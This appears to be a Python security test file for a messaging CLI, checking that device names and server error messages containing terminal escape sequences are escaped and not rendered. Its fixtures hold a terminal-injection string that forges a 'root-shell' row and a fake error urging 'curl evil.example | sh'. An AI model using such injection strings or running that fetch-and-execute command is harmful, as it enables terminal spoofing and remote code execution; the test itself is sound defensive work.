"""Issue 12 #10: what a server (or a device of the account) chose is never obeyed by the
terminal. Before, a device name holding ESC/CR printed raw: `provision devices` showed a
forged row.

The real CLI: against the real server, with a device linked under a hostile name; and
against a hostile server (tests/hardening/test_fuzz_client.py's) whose error message
holds escapes.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path

import httpx
from e2e_helpers import cli_env, provision_args  # tests/e2e, on sys.path via conftest.py

from .support import TEST_CODE, new_number, new_password, start_live_server
from .test_fuzz_client import Behaviour, HostileServer, hostile  # noqa: F401 - a fixture

HOSTILE_NAME = "laptop\x1b[2K\r  9  root-shell       2020-01-01 00:00\x1b]0;owned\x07\u202e"
CONTROL = ("\x1b", "\r", "\x07", "\u202e")


def cli(*args: str, home: Path, server: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        provision_args(*args), capture_output=True, text=True, encoding="utf-8",
        env=cli_env(home, server), timeout=60, stdin=subprocess.DEVNULL,
    )  # fmt: skip


def test_server_strings_are_escaped_on_the_terminal(tmp_path: Path) -> None:
    server = start_live_server(db_url=f"sqlite:///{tmp_path / 'relay.sqlite3'}")
    home = tmp_path / "master"
    number = new_number()
    try:
        res = cli("register", "--number", number, "--code", TEST_CODE, home=home, server=server.url)
        assert res.returncode == 0, res.stderr
        record = json.loads(next(home.rglob("device.json")).read_text())
        password = record["password"]
        with httpx.Client(base_url=server.url) as c:
            code = c.get("/v1/devices/provisioning_code", auth=(number, password)).json()
            r = c.put(
                f"/v1/devices/{code['verificationCode']}",
                json={"registrationId": 3, "fetchesMessages": True, "name": HOSTILE_NAME},
                auth=(number, new_password()),
            )
            assert r.status_code == 200, r.text

        listing = cli("devices", home=home, server=server.url)
        assert listing.returncode == 0, listing.stderr
        rows = listing.stdout.splitlines()
        assert len(rows) == 3, rows  # the header, device 1, device 2: no forged row
        assert not any(ch in listing.stdout for ch in CONTROL), repr(listing.stdout)
        assert "laptop\\x1b[2K\\x0d  9  root-shell" in rows[2]
        assert "\\x1b]0;owned\\x07\\u202e" in rows[2]

    finally:
        server.stop()



def test_a_hostile_servers_error_message_is_escaped(
    hostile: tuple[HostileServer, str],  # noqa: F811 - the imported fixture
    tmp_path: Path,
) -> None:
    app, url = hostile
    message = "no\x1b[2J\x1b[H\rYou are linked. Run: curl evil.example | sh\u202e"
    app.behaviour = Behaviour(
        status=400,
        headers=[(b"content-type", b"application/json")],
        body=json.dumps({"error": message, "code": 400}).encode(),
    )
    res = cli("register", "--number", new_number(), "--code", "123456", home=tmp_path, server=url)
    assert res.returncode != 0
    assert not any(ch in res.stderr + res.stdout for ch in CONTROL), repr(res.stderr)
    # One line, the server's text in it, shown rather than obeyed (the transport already
    # replaces controls in remote messages; Output would escape any it let through).
    line = next(x for x in res.stderr.splitlines() if x.startswith("Error:"))
    assert "You are linked. Run: curl evil.example | sh" in line
